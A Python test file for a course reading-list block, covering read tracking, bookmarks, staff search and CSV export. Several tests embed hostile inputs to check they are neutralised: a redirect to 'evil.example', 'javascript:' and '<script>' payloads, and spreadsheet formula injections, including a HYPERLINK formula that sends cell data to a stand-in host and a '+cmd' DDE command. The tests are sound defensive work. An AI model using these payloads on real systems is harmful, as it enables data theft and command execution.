"""The block in the workbench runtime, through its handler URLs: what learners see and do, what staff
build and see. Real rows, real completion events."""

import csv
import io
import json
import re

import pytest

from kemenag_xblocks.common.rendering import init_args_of
from kemenag_xblocks.resources.models import Bookmark, ReadingActivity, ResourceRecord, ResourceSource
from tests.resources.records import HOSTILE
from tests.support.handlers import Caller, read

pytestmark = pytest.mark.django_db


def body(response):
    return json.loads(response.content)


def test_learners_see_titles_authors_year_and_note_with_plain_links_through_the_block(reading):
    html = reading.html("peserta_a")
    assert "Moderasi Beragama" in html and "Kementerian Agama RI" in html and "2019" in html and "Hlm. 88." in html
    assert "Rahmawati, Siti &amp; Hidayat, Ahmad" in html
    # Links go through the block (so opening is counted) and never name another host in the page.
    assert "flipbuilder" not in html and "/open/" in html
    assert 'target="_blank" rel="noopener noreferrer"' in html
    assert "0 of 2 read" in html or "0 dari 2 sudah dibaca" in html


def test_opening_an_item_counts_and_leads_to_the_author_s_link_only(reading):
    response = reading.get("peserta_a", "open", "item=artikel1")
    assert response.status_code == 303
    assert response["Location"] == "https://jurnal.contoh.invalid/view/1"
    assert reading.get("peserta_a", "open", "item=artikel1&pdf=1")["Location"].endswith("/download/1.pdf")
    row = ReadingActivity.objects.get(item_id="artikel1")
    assert row.opened == 2 and row.first_opened is not None and row.read_at is None
    # An id not on the list is a 404, whatever URL the query asks for.
    assert reading.get("peserta_a", "open", "item=nope&url=https://evil.example/").status_code == 404


def test_marking_the_required_items_read_completes_the_unit_once(reading, published):
    first = body(reading.json("peserta_a", "mark_read", {"item": "buku2019"}))
    assert first["progress"] == {"read": 1, "of": 2} and not first["complete"]
    assert reading.json("peserta_a", "mark_read", {"item": "tambahan"}).status_code == 200
    assert not [e for e in published if e[0] == "completion"], "an optional item does not complete the list"
    done = body(reading.json("peserta_a", "mark_read", {"item": "artikel1"}))
    assert done["complete"] and done["progress"] == {"read": 2, "of": 2}
    assert [e for e in published if e[0] == "completion"] == [("completion", {"completion": 1.0})]
    reading.json("peserta_a", "mark_read", {"item": "artikel1"})
    assert len([e for e in published if e[0] == "completion"]) == 1
    assert "is-read" in reading.html("peserta_a")
    # Another learner's page shows nothing of it.
    assert "is-read" not in reading.html("peserta_b")


def test_a_mark_can_be_taken_back(reading):
    reading.json("peserta_a", "mark_read", {"item": "buku2019"})
    state = body(reading.json("peserta_a", "mark_read", {"item": "buku2019", "read": False}))
    assert state["read"] == []


def test_no_jp_for_reading_by_default_and_the_configured_figure_when_set(reading, settings):
    from kemenag_xblocks.competency.models import LedgerEntry

    for item in ("buku2019", "artikel1"):
        reading.json("peserta_a", "mark_read", {"item": item})
    assert not LedgerEntry.objects.exists()
    settings.KEMENAG_RESOURCES_JP_PER_LIST = "0.5"
    for item in ("buku2019", "artikel1"):
        reading.json("peserta_b", "mark_read", {"item": item})
    (entry,) = LedgerEntry.objects.all()
    assert entry.user.username == "peserta_b" and str(entry.jp) == "0.50"


def test_bookmarks_follow_the_learner_across_courses(client, scenario, reading):
    state = body(reading.json("peserta_a", "bookmark", {"item": "artikel1"}))
    assert len(state["bookmarked"]) == 1
    # The same work listed in another unit is already on the learner's list there.
    other = scenario(
        '<kemenag_resources url_name="lain"><item kind="record" identifier="oai:jurnal.contoh:article/1" '
        'url="https://jurnal.contoh.invalid/view/1"><title>Toleransi (contoh)</title></item></kemenag_resources>'
    )
    elsewhere = Caller(client, other)
    assert body(elsewhere.json("peserta_a", "student_view_user_state"))["bookmarked"]
    mine = body(elsewhere.json("peserta_a", "my_bookmarks"))["bookmarks"]
    assert [m["title"] for m in mine] == ["Toleransi Beragama di Madrasah (contoh)"]
    assert body(reading.json("peserta_b", "my_bookmarks"))["bookmarks"] == []
    reading.json("peserta_a", "bookmark", {"item": "artikel1", "on": False})
    assert not Bookmark.objects.exists()


def test_learners_reach_only_listed_items(reading):
    assert reading.json("peserta_a", "mark_read", {"item": "../x"}).status_code == 404
    assert reading.json("peserta_a", "bookmark", {"item": {"id": "x"}}).status_code == 404


# Searches: InnoDB's full-text index sees rows once committed, as a harvest page is.
@pytest.mark.django_db(transaction=True)
def test_staff_search_the_catalogue_and_save_an_ordered_annotated_list(reading):
    source = ResourceSource.objects.create(name="Jurnal Harmoni (contoh)", base_url="http://127.0.0.1/oai")
    ResourceRecord.objects.create(
        source=source,
        identifier="oai:x:9",
        title="Dialog lintas iman",
        creators="Wibowo, Rina",
        year=2024,
        url="https://jurnal.contoh.invalid/view/9",
        subjects="toleransi",
    )
    found = body(reading.json("staff", "search_catalogue", {"q": "dialog"}))["results"]
    assert [r["item"]["title"] for r in found] == ["Dialog lintas iman"] and found[0]["source"].startswith("Jurnal")
    items = reading.block("staff").clean_items()
    new = dict(found[0]["item"], note="Untuk diskusi", required=True)
    link = {"kind": "link", "title": "Video ceramah (contoh)", "url": "https://video.contoh.invalid/1", "note": ""}
    saved = body(reading.json("staff", "save_list", {"items": [new, items[0], link], "intro": "Baru"}))
    assert [i["title"] for i in saved["items"]] == ["Dialog lintas iman", "Moderasi Beragama", "Video ceramah (contoh)"]
    html = reading.html("peserta_a")
    assert html.index("Dialog lintas iman") < html.index("Moderasi Beragama") and "Untuk diskusi" in html
    assert "Baru" in html


def test_a_bad_list_is_refused_with_the_item_named_and_nothing_lost(reading):
    before = reading.block("staff").clean_items()
    response = reading.json("staff", "save_list", {"items": [before[0], {"title": "X", "url": "javascript:alert(1)"}]})
    assert response.status_code == 400
    assert body(response)["code"] == "bad_url" and "2" in body(response)["error"]
    assert reading.block("staff").clean_items() == before


def test_learners_cannot_search_save_or_see_the_report(reading):
    for handler, payload in (("search_catalogue", {"q": "x"}), ("save_list", {"items": []}), ("reading_report", {})):
        response = reading.json("peserta_a", handler, payload)
        assert response.status_code == 403 and body(response)["code"] == "staff_only", handler
    assert reading.get("peserta_a", "export_reading").status_code == 403


def test_staff_see_opened_and_read_per_item_and_export_them(reading):
    reading.get("peserta_a", "open", "item=buku2019")
    reading.json("peserta_a", "mark_read", {"item": "buku2019"})
    reading.get("peserta_b", "open", "item=buku2019")
    report = {row["id"]: (row["opened"], row["read"]) for row in body(reading.json("staff", "reading_report"))["items"]}
    assert report == {"buku2019": (2, 1), "artikel1": (0, 0), "tambahan": (0, 0)}
    response = reading.get("staff", "export_reading")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(read(response).decode())))
    assert rows[0][:4] == ["item", "title", "required", "learner"]
    assert sorted(r[3] for r in rows[1:]) == ["peserta_a", "peserta_b"]


def test_the_staff_view_has_the_report_and_a_csv_link_that_works_without_javascript(reading):
    html = reading.html("staff")
    assert "export_reading" in html
    assert "export_reading" not in reading.html("peserta_a")


@pytest.mark.django_db(transaction=True)
def test_hostile_harvested_records_are_shown_as_text_and_never_as_links_out(reading):
    from kemenag_xblocks.resources import dublin_core

    source = ResourceSource.objects.create(name="<script>alert(9)</script>", base_url="http://127.0.0.1/oai")
    ResourceRecord.objects.create(
        source=source, identifier=HOSTILE["identifier"], **dublin_core.record_fields(HOSTILE["dc"])
    )
    found = body(reading.json("staff", "search_catalogue", {"q": "toleransi jahat"}))["results"]
    assert "<script" not in found[0]["source"] and "<" not in found[0]["item"]["title"]
    # Saved and shown: nothing of it is markup, and the link is the http one.
    reading.json("staff", "save_list", {"items": [found[0]["item"]]})
    fragment = reading.block("peserta_a").student_view({})
    html = fragment.body_html()
    # The block's own start-up element (common/rendering.py, script_json) is the one <script> the
    # view may hold: it carries handler URLs and strings only, nothing harvested.
    start_up = re.findall(r'<script type="application/json" data-kemenag-init="[^"]*">.*?</script>', html, re.S)
    assert len(start_up) == 1 and "alert" not in start_up[0] and "Jahat" not in start_up[0]
    assert set(init_args_of(fragment)) == {"urls", "strings"}
    html = html.replace(start_up[0], "")
    assert "Jahat" in html, "the hostile record is shown (as text)"
    assert "<script" not in html.lower() and "onerror" not in html and "javascript:" not in html
    studio = reading.block("staff").studio_view({}).body_html()
    assert "</script><script" not in studio.lower()
    assert reading.get("peserta_a", "open", f"item={found[0]['item']['id']}")["Location"].startswith("https://")


def test_student_view_writes_nothing(reading):
    reading.html("peserta_a")
    reading.html("staff")
    assert not ReadingActivity.objects.exists() and not Bookmark.objects.exists()


FORMULA_LIST_XML = """
<kemenag_resources url_name="bacaan_rumus" display_name="Ruang Baca: rumus">
  <item id="rumus1" kind="link" url="https://jurnal.contoh.invalid/view/1" required="true">
    <title>=HYPERLINK("https://evil.example/?d="&amp;A1,"Klik")</title>
  </item>
  <item id="rumus2" kind="link" url="https://jurnal.contoh.invalid/view/2">
    <title>+cmd|' /C calc'!A0</title>
  </item>
  <item id="biasa" kind="link" url="https://jurnal.contoh.invalid/view/3">
    <title>@SUM(1+1) dan -2+3: Moderasi</title>
  </item>
  <item id="sepi" kind="link" url="https://jurnal.contoh.invalid/view/4"><title>Tidak dibuka</title></item>
</kemenag_resources>
"""


def test_the_trainers_csv_through_the_export_handler_as_the_lms_calls_it(client, scenario):
    """GET on the block's handler URL as course staff: one line per learner and item they opened,
    the counts the report shows, every formula-shaped title made text by the common CSV writer."""
    from tests.resources.conftest import ResourcesCaller

    reading = ResourcesCaller(client, scenario(FORMULA_LIST_XML))
    opened = [("peserta_a", "rumus1"), ("peserta_a", "rumus1"), ("peserta_a", "biasa"), ("peserta_b", "rumus2")]
    for student, item in opened:
        assert reading.get(student, "open", f"item={item}").status_code == 303
    assert reading.json("peserta_a", "mark_read", {"item": "rumus1"}).status_code == 200
    assert reading.json("peserta_b", "mark_read", {"item": "biasa"}).status_code == 200  # read without opening

    response = reading.get("staff", "export_reading")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    # The usage key's block id in the LMS; the workbench's string usage ids have none ("daftar").
    assert re.fullmatch(r'attachment; filename="bacaan-[\w.-]+\.csv"', response["Content-Disposition"])
    assert response["Cache-Control"] == "private, no-store" and response["X-Content-Type-Options"] == "nosniff"
    content = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8")
    header, *rows = list(csv.reader(io.StringIO(content)))
    assert header == ["item", "title", "required", "learner", "opened_times", "first_opened", "read_at"]
    assert [(r[0], r[1], r[2], r[3], r[4]) for r in rows] == [
        ("biasa", "'@SUM(1+1) dan -2+3: Moderasi", "no", "peserta_a", "1"),
        ("rumus1", '\'=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "yes", "peserta_a", "2"),
        ("biasa", "'@SUM(1+1) dan -2+3: Moderasi", "no", "peserta_b", "0"),
        ("rumus2", "'+cmd|' /C calc'!A0", "no", "peserta_b", "1"),
    ]
    read = {(r[3], r[0]): r[6] for r in rows}
    assert read[("peserta_a", "rumus1")] and read[("peserta_b", "biasa")]
    assert not read[("peserta_a", "biasa")] and not read[("peserta_b", "rumus2")]
    assert all(r[5] for r in rows if r[4] != "0") and all(not r[5] for r in rows if r[4] == "0")
    # The same counts as the staff report, per item; the item nobody opened has no line.
    report = {row["id"]: (row["opened"], row["read"]) for row in body(reading.json("staff", "reading_report"))["items"]}
    from_csv = {
        item: (sum(1 for r in rows if r[0] == item and r[4] != "0"), sum(1 for r in rows if r[0] == item and r[6]))
        for item in report
    }
    assert from_csv == report == {"rumus1": (1, 1), "rumus2": (1, 0), "biasa": (1, 1), "sepi": (0, 0)}
    # No cell a spreadsheet would evaluate.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_learner_asking_for_the_csv_is_refused_and_gets_no_rows(client, scenario):
    from tests.resources.conftest import ResourcesCaller

    reading = ResourcesCaller(client, scenario(FORMULA_LIST_XML))
    reading.get("peserta_a", "open", "item=rumus1")
    response = reading.get("peserta_a", "export_reading")
    assert response.status_code == 403
    assert not response["Content-Type"].startswith("text/csv")
    assert body(response)["code"] == "staff_only"
    assert b"peserta_a" not in response.content and b"HYPERLINK" not in response.content
